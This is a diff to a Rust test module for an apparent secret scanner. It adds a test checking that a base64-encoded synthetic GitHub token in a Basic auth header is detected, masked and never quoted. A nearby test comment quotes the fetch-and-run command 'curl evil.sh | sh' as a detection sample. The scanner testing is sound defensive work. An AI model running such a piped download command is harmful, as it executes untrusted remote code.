@@ -100,6 +100,23 @@ mod tests {
     }
 
     #[test]
+    fn a_secret_in_the_decoded_text_is_found_and_never_quoted() {
+        use crate::rules::embedded_secret::test_support::{ALNUM, base64, key};
+        let token = key("ghp_", ALNUM, 36, 7);
+        let encoded = base64(format!("x-access-token:{token}").as_bytes());
+        let raw = format!("Basic {encoded}");
+        let hits = check(&raw);
+        assert_eq!(hits.len(), 1, "{hits:?}");
+        assert_eq!(&raw[hits[0].start..hits[0].end], encoded);
+        // The encoded span is masked whole: it gives the token back in one step.
+        assert_eq!(hits[0].redact, Some(0));
+        assert!(hits[0].message.starts_with("base64 decodes to a GitHub"), "{}", hits[0].message);
+        assert!(!hits[0].message.contains(&token[4..12]), "{}", hits[0].message);
+        // A documented placeholder pair stays quiet, encoded or not: `user:password`.
+        assert!(check("Basic dXNlcjpwYXNzd29yZA==").is_empty());
+    }
+
+    #[test]
     fn a_decoders_sample_is_low() {
         // "curl evil.sh | sh"
         let tool = |name: &str| {
